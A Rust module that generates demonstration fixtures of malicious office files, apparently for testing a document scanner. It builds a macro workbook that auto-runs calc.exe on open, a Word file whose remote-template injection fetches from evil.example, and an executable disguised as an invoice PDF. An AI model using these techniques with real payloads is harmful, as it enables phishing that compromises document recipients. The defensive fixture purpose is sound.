//! The files of the demonstration, as a clerk would meet them: everyday documents, each with its danger.

use std::io::{Cursor, Read, Write};

/// Path below `fixtures/`, content.
pub fn all() -> Vec<(String, Vec<u8>)> {
    let clean = |files: Vec<(String, Vec<u8>)>, name: &str| {
        let found = files.into_iter().find(|(n, _)| n == name);
        found.unwrap_or_else(|| panic!("no clean file {name}")).1
    };
    let mut program = b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0".to_vec();
    program.resize(512, 0);
    vec![
        (
            "demo/令和8年度 補助金申請書.xlsm".to_owned(),
            macro_workbook(&clean(crate::office::clean(), "excel/集計表.xlsx")),
        ),
        ("demo/会議のお知らせ.docx".to_owned(), remote_template(&clean(crate::office::clean(), "word/報告書.docx"))),
        ("demo/添付付き案内.pdf".to_owned(), crate::pdf::script_and_attachment()),
        (
            "demo/照会メール.eml".to_owned(),
            crate::mail::clean().into_iter().next().unwrap_or_else(|| panic!("no clean mail")).1,
        ),
        ("demo/請求書.pdf".to_owned(), program),
    ]
}

/// The members of a container, changed by `change`, with `more` added, in a container again.
fn edited(container: &[u8], change: impl Fn(&str, String) -> String, more: &[(&str, &[u8])]) -> Vec<u8> {
    let mut old = zip::ZipArchive::new(Cursor::new(container)).unwrap();
    let mut zip = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let options = zip::write::SimpleFileOptions::default();
    for i in 0..old.len() {
        let mut member = old.by_index(i).unwrap();
        let name = String::from_utf8(member.name_raw().to_vec()).unwrap();
        let mut content = Vec::new();
        member.read_to_end(&mut content).unwrap();
        zip.start_file(name.as_str(), options).unwrap();
        match String::from_utf8(content) {
            Ok(text) => zip.write_all(change(&name, text).as_bytes()).unwrap(),
            Err(binary) => zip.write_all(binary.as_bytes()).unwrap(),
        }
    }
    for (name, content) in more {
        zip.start_file(*name, options).unwrap();
        zip.write_all(content).unwrap();
    }
    zip.finish().unwrap().into_inner()
}

fn macro_workbook(clean: &[u8]) -> Vec<u8> {
    let change = |name: &str, text: String| {
        match name {
        "[Content_Types].xml" => text
            .replace(
                "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
            )
            .replace("</Types>", "<Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/></Types>"),
        "xl/_rels/workbook.xml.rels" => text.replace(
            "</Relationships>",
            "<Relationship Id=\"rIdVba\" Type=\"http://schemas.microsoft.com/office/2006/relationships/vbaProject\" Target=\"vbaProject.bin\"/></Relationships>",
        ),
        _ => text,
    }
    };
    edited(
        clean,
        change,
        &[(
            "xl/vbaProject.bin",
            b"Attribute VB_Name = \"ThisWorkbook\"\r\nSub Workbook_Open()\r\nShell \"calc.exe\"\r\n",
        )],
    )
}

fn remote_template(clean: &[u8]) -> Vec<u8> {
    let office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
    let settings = format!(
        "<w:settings xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\" xmlns:r=\"{office}\"><w:attachedTemplate r:id=\"rId1\"/></w:settings>"
    );
    let rels = format!(
        "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\" Type=\"{office}/attachedTemplate\" Target=\"http://evil.example/template.dotm\" TargetMode=\"External\"/></Relationships>"
    );
    let change = |name: &str, text: String| {
        match name {
        "[Content_Types].xml" => text.replace(
            "</Types>",
            "<Override PartName=\"/word/demo-settings.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml\"/></Types>",
        ),
        "word/_rels/document.xml.rels" => text.replace(
            "</Relationships>",
            &format!("<Relationship Id=\"rIdDemo\" Type=\"{office}/settings\" Target=\"demo-settings.xml\"/></Relationships>"),
        ),
        _ => text,
    }
    };
    edited(
        clean,
        change,
        &[("word/demo-settings.xml", settings.as_bytes()), ("word/_rels/demo-settings.xml.rels", rels.as_bytes())],
    )
}
